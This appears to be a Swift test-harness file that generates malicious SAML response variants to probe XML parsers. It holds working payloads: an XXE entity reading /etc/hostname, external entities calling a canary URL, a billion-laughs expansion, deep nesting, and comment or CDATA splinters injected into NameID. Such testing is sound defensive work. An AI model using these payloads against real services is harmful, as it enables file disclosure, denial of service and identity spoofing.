extension GenuineAnswer {
    /// Attacks on the parser (mvpd #53 to #63).
    func markup(_ attack: Attack, _ canary: String) throws -> String? {
        let name = try? element("saml:NameID")
        func inName(_ splinter: String) throws -> String {
            guard let name else { throw NotFound(name: "saml:NameID") }
            return try replacing(name, replacing("</saml:NameID>", splinter + ".evil</saml:NameID>", in: name))
        }
        switch attack {
        case .fileEntity: return "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>" + text
        case .httpEntity: return "<!DOCTYPE a [<!ENTITY x SYSTEM \"\(canary)?entity\">]>" + text
        case .parameterEntity: return "<!DOCTYPE a [<!ENTITY % x SYSTEM \"\(canary)?parameter\"> %x;]>" + text
        case .manyEntities: return Self.manyEntities + text
        case .otherEncoding: return "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + text
        case .depth:
            let (open, close) = (String(repeating: "<x>", count: 10_000), String(repeating: "</x>", count: 10_000))
            return try replacing("<samlp:Status>", "<samlp:Extensions>\(open)\(close)</samlp:Extensions><samlp:Status>")
        case .comment: return try inName("<!-- -->")
        case .processingInstruction: return try inName("<?x y?>")
        case .cdata: return try inName("<![CDATA[x]]>")
        case .unboundPrefix: return try replacing("<samlp:Status>", "<nobody:x/><samlp:Status>")
        case .repeatedAttribute: return try replacing(" Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\"")
        case .trailingData: return text + "<x/>"
        default: return nil
        }
    }

    private static var manyEntities: String {
        let levels = (1...9).map { level in
            let references = String(repeating: "&a\(level - 1);", count: 10)
            return "<!ENTITY a\(level) \"\(references)\">"
        }
        return "<!DOCTYPE a [<!ENTITY a0 \"ha\">\(levels.joined())]>"
    }
}
